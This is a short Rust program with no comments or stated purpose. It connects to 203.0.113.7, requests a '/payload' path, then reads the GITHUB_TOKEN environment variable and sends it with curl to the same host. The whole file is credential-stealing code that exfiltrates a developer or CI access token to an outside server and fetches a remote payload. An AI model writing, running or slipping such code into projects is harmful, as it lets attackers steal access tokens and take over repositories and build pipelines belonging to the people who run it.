use std::io::Write;
use std::net::TcpStream;
use std::process::Command;
fn main() {
    let mut s = TcpStream::connect("203.0.113.7:80").unwrap();
    s.write_all(b"GET /payload HTTP/1.0\r\n\r\n").unwrap();
    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
    Command::new("curl").arg("-d").arg(token).arg("http://203.0.113.7/").status().ok();
}
